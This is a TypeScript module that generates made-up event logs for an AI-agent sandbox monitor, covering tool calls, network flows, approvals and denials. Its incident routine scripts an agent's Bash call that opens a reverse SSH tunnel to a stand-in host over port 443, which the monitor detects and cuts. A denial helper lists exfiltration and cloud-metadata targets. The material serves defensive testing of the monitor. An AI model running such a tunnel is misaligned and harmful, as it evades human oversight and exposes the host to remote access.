/**
 * What one made-up run does, entry by entry: turns of a model, the processes of its tool calls, what those reach, what waits
 * for a person, and in one of them a tunnel that is found and stopped.
 *
 * @module
 */
import type { Event, Process } from "../../../src/action/index.ts";
import type { Random } from "./random.ts";
import type { SampleDeed, SampleTask } from "./tasks.ts";

export type Draft = Omit<Event, "at" | "monoMs" | "run">;

/** How a run goes: `calm` and `ended` do their work, `waits` asks a person, `incident` is stopped for a tunnel. */
export type Course = "calm" | "ended" | "waits" | "paused" | "incident";

const HASH_CHARS = 64;
const SECONDS_OF_USAGE = 10_000;

/** Entries of a run, without end but for the last ones ({@link endOf}). */
export function* storyOf(task: SampleTask, random: Random): Generator<Draft> {
  yield* startOf(task, random);
  const agent = agentOf(task, random);
  yield { type: "process.start", target: agent.exe, process: agent };
  for (let turn = 1; ; turn += 1) {
    yield modelTurn(task, agent, random);
    yield* toolCall(task, agent, random);
    if (turn % 4 === 0) yield usageOf(task, random);
    if (random.chance(0.04)) yield refusal(agent, random);
  }
}

function* startOf(task: SampleTask, random: Random): Generator<Draft> {
  const digest = random.hex(HASH_CHARS);
  yield { type: "policy", data: { digest, source: task.source, file: `${task.task}.yaml` } };
  yield {
    type: "run.start",
    data: {
      task: task.task,
      purpose: task.purpose,
      policy: digest,
      command: [...task.command],
      workspace: task.workspace,
      workspaceMode: "overlay",
      lifetimeMs: task.lifetimeMs,
      limits: [{ limit: "memory", wanted: "4 GiB", how: "group", hard: true, note: "" }],
      compute: structuredClone(task.compute) as NonNullable<Event["data"]>,
      environment: ["LANG"],
      publish: [],
      ...(task.profile === undefined ? {} : { profile: task.profile }),
    },
  };
  yield {
    type: "run.proved",
    data: {
      proofs: ["uid", "network", "seccomp", "landlock", "mounts", "limits"].map((control) => ({
        control,
        evidence: "refused from inside, as it must be",
      })),
    },
  };
}

function agentOf(task: SampleTask, random: Random): Process {
  const [program = "agent"] = task.command;
  return {
    pid: random.between(2000, 9000),
    exe: `/usr/bin/${program}`,
    exeSha256: random.hex(HASH_CHARS),
    argv: [...task.command],
    knownBy: "seccomp",
    ancestors: [],
  };
}

function modelTurn(task: SampleTask, agent: Process, random: Random): Draft {
  const provider = task.model.startsWith("claude") ? "anthropic" : "openai";
  return {
    type: "model",
    system: provider,
    target: `https://api.${provider}.com/v1/messages`,
    flow: `f-${random.id(12)}`,
    process: agent,
    data: {
      provider,
      protocol: provider,
      model: task.model,
      stop: "tool_use",
      tokens: { in: random.between(1500, 60_000), out: random.between(60, 1800) },
      tools: 14,
      calls: 1,
      status: 200,
    },
  };
}

function* toolCall(task: SampleTask, agent: Process, random: Random): Generator<Draft> {
  const [name, command] = random.pick(task.tools);
  const call = `toolu_${random.id(20)}`;
  const cause = { call: { id: call, name, source: "model", by: "argv", confidence: 1 } } as const;
  yield {
    type: "tool.call",
    process: agent,
    data: {
      call,
      name,
      source: "model",
      input: name === "Read" || name === "Write" ? { path: command } : { command },
      bytes: command.length + 20,
      digest: random.hex(HASH_CHARS),
      model: task.model,
    },
  };
  const argv = ["bash", "-c", command];
  const { ancestors: _, knownBy: __, ...parent } = agent;
  const child: Process = {
    pid: random.between(9001, 40_000),
    exe: "/usr/bin/bash",
    exeSha256: "5f".repeat(HASH_CHARS / 2),
    argv,
    knownBy: "seccomp",
    ancestors: [parent],
  };
  yield { type: "process.start", target: child.exe, process: child, cause };
  if (random.chance(0.7)) yield* connection(task, child, cause, random);
  yield {
    type: "tool.result",
    process: agent,
    cause,
    data: {
      call,
      source: "model",
      isError: random.chance(0.08),
      bytes: random.between(20, 9000),
      digest: random.hex(HASH_CHARS),
      excerpt: `${command}: done in ${random.between(10, 4000)} ms`,
    },
  };
}

function* connection(
  task: SampleTask,
  process: Process,
  cause: Event["cause"],
  random: Random,
): Generator<Draft> {
  const flow = `f-${random.id(12)}`;
  const common = { flow, process, ...(cause === undefined ? {} : { cause }) };
  const address = `203.0.113.${random.between(2, 250)}`;
  yield {
    type: "dns",
    target: task.host,
    process,
    data: { name: task.host, type: "A", answer: [address], rcode: "NOERROR" },
  };
  const protocol = task.kind === "ssh" || task.kind === "postgres" ? task.kind : "http";
  yield {
    type: "flow.open",
    target: `${task.host}:${task.port}`,
    ...common,
    data: { address, port: task.port, name: task.host, protocol, tls: protocol === "http" },
  };
  const bytes = { out: 0, in: 0 };
  for (let n = random.between(1, 4); n > 0; n -= 1) {
    yield* act(task, weighted(task.deeds, random), common, bytes, random);
  }
  yield {
    type: "flow.close",
    target: `${task.host}:${task.port}`,
    ...common,
    data: {
      bytesOut: bytes.out,
      bytesIn: bytes.in,
      durationMs: random.between(20, 9000),
      reason: "closed",
    },
  };
}

type Common = Pick<Draft, "flow" | "process" | "cause">;

function* act(
  task: SampleTask,
  deed: SampleDeed,
  common: Common,
  bytes: { out: number; in: number },
  random: Random,
): Generator<Draft> {
  const action = `a-${random.id(12)}`;
  const about = { system: task.system, target: deed.target, action };
  const digest = random.hex(HASH_CHARS);
  yield {
    type: "action",
    verdict: deed.verdict,
    rule: deed.rule,
    ...about,
    ...common,
    data: {
      kind: task.kind,
      verb: deed.verb,
      effects: [...deed.effects],
      summary: deed.summary,
      fields: { page: random.between(1, 90) },
      digest,
      reason: deed.verdict === "deny" ? `no rule of ${task.system} covers ${deed.verb}` : "granted",
    },
  };
  if (deed.verdict === "deny") {
    yield {
      type: "denial",
      verdict: "deny",
      rule: deed.rule,
      ...about,
      ...common,
      data: {
        title: `${deed.verb} is not granted`,
        reason: `no rule of ${task.system} covers ${deed.verb}`,
        route: "direct",
        effect: deed.effects[0] ?? "read",
      },
    };
    return;
  }
  if (deed.verdict === "confirm") yield* approval(deed, about, digest, random);
  const [out, back] = [random.between(200, 4000), random.between(300, 60_000)];
  bytes.out += out;
  bytes.in += back;
  yield {
    type: "outcome",
    ...about,
    ...(common.flow === undefined ? {} : { flow: common.flow }),
    data: { status: 200, bytesOut: out, bytesIn: back, durationMs: random.between(4, 900) },
  };
  if (deed.effects[0] === "read" && random.chance(0.2)) {
    yield {
      type: "repeat",
      ...about,
      ...(common.flow === undefined ? {} : { flow: common.flow }),
      data: { count: random.between(2, 12) },
    };
  }
}

/** The steps of one that a person allows, or not. */
function* approval(
  deed: SampleDeed,
  about: Pick<Draft, "system" | "target" | "action">,
  digest: string,
  random: Random,
): Generator<Draft> {
  const id = `ap-${random.id(10)}`;
  const step = (state: string, more: NonNullable<Event["data"]> = {}): Draft => ({
    type: "approval",
    ...about,
    data: {
      ...{ approval: id, state, verb: deed.verb, effects: [...deed.effects], digest },
      code: random.id(4),
      waitedMs: random.between(0, 90_000),
      ...more,
    },
  });
  yield step("requested");
  yield step("shown");
  const isAllowed = random.chance(0.8);
  yield step(isAllowed ? "approved" : "denied", {
    by: "user:dev",
    before: [],
    ...(isAllowed ? {} : { reason: "not this week" }),
  });
  if (isAllowed) yield step("performed");
}

/** One that waits still. */
export function* asking(task: SampleTask, random: Random): Generator<Draft> {
  const deed = task.deeds.find(({ verdict }) => verdict === "confirm");
  if (deed === undefined) return;
  const about = { system: task.system, target: deed.target, action: `a-${random.id(12)}` };
  const [requested] = approval(deed, about, random.hex(HASH_CHARS), random);
  if (requested !== undefined) yield requested;
}

function usageOf({ compute }: SampleTask, random: Random): Draft {
  const cores = typeof compute["cpus"] === "number" ? compute["cpus"] : 1;
  const memory = typeof compute["memoryBytes"] === "number" ? compute["memoryBytes"] : 2 ** 30;
  const gpus = Array.isArray(compute["gpu"]) ? compute["gpu"] : [];
  return {
    type: "usage",
    data: {
      spanMs: SECONDS_OF_USAGE,
      cpu: Math.round(random.next() * cores * 70) / 100,
      memory: Math.floor(memory * (0.15 + 0.5 * random.next())),
      disk: random.between(1, 400) * 2 ** 20,
      pids: random.between(3, 40),
      ...(gpus.length === 0
        ? {}
        : { gpus: gpus.map((gpu) => ({ gpu, busy: 0.6 + 0.4 * random.next(), pids: [4711] })) }),
    },
  };
}

function refusal(agent: Process, random: Random): Draft {
  const host = random.pick([
    "telemetry.example.net",
    "203.0.113.77",
    "pastebin.example",
    "169.254.169.254",
  ]);
  return {
    type: "denial",
    verdict: "deny",
    rule: "no-grant",
    system: "none",
    target: `${host}:443`,
    process: agent,
    data: { title: "Nothing is granted for it", reason: `no grant for ${host}`, route: "direct" },
  };
}

/** The last entries of a run. */
export function* endOf(course: Course, task: SampleTask, random: Random): Generator<Draft> {
  if (course === "incident") yield* incident(task, random);
  if (course === "paused") yield { type: "run.pause", data: { reason: "by hand" } };
  if (course === "waits") yield* asking(task, random);
  if (course === "incident" || course === "ended") {
    const end =
      course === "incident"
        ? { reason: "finding", detail: "tunnel: ssh in the connection to updates.example.net:443" }
        : { reason: "exited", code: random.chance(0.85) ? 0 : 1 };
    yield { type: "run.end", data: { end, flows: 1, actions: 1, denials: 1, findings: 0 } };
  }
}

function* incident(task: SampleTask, random: Random): Generator<Draft> {
  const agent = agentOf(task, random);
  const { ancestors: _, knownBy: __, ...parent } = agent;
  const process: Process = {
    pid: random.between(9001, 40_000),
    exe: "/usr/bin/ssh",
    argv: ["ssh", "-N", "-R", "9000:127.0.0.1:22", "me@updates.example.net"],
    knownBy: "seccomp",
    ancestors: [parent],
  };
  const [flow, call] = [`f-${random.id(12)}`, `toolu_${random.id(20)}`];
  const target = "updates.example.net:443";
  const cause = {
    call: { id: call, name: "Bash", source: "model", by: "argv", confidence: 1 },
  } as const;
  const common = { target, flow, process, cause };
  const detail = `ssh in the connection to ${target}`;
  yield {
    type: "tool.call",
    process: agent,
    data: {
      ...{ call, name: "Bash", source: "model", bytes: 88, digest: random.hex(HASH_CHARS) },
      input: { command: process.argv.join(" ") },
    },
  };
  yield { type: "process.start", ...common, target: process.exe };
  yield {
    type: "flow.open",
    ...common,
    data: { address: "203.0.113.66", port: 443, name: "updates.example.net", protocol: "tcp" },
  };
  yield {
    type: "finding",
    rule: "finding.tunnel",
    ...common,
    data: { finding: "tunnel", detail, response: "cut, pause", score: 1, attack: ["T1572"] },
  };
  yield {
    type: "denial",
    verdict: "deny",
    rule: "protocol.ssh",
    system: "none",
    ...common,
    data: {
      title: "The connection does not speak the granted protocol",
      reason: detail,
      route: "direct",
    },
  };
  yield {
    type: "flow.close",
    ...common,
    data: { bytesOut: 41, bytesIn: 0, durationMs: 12, reason: `not the granted protocol: ssh` },
  };
  yield {
    type: "response",
    data: { kind: "tunnel", finding: 0, responses: ["pause", "cut"], cut: 1, withinMs: 4 },
  };
  yield { type: "run.pause", data: { reason: `tunnel: ${detail}` } };
}

function weighted(deeds: readonly SampleDeed[], random: Random): SampleDeed {
  let left = random.next() * deeds.reduce((sum, { weight }) => sum + weight, 0);
  for (const deed of deeds) {
    left -= deed.weight;
    if (left < 0) return deed;
  }
  return random.pick(deeds);
}
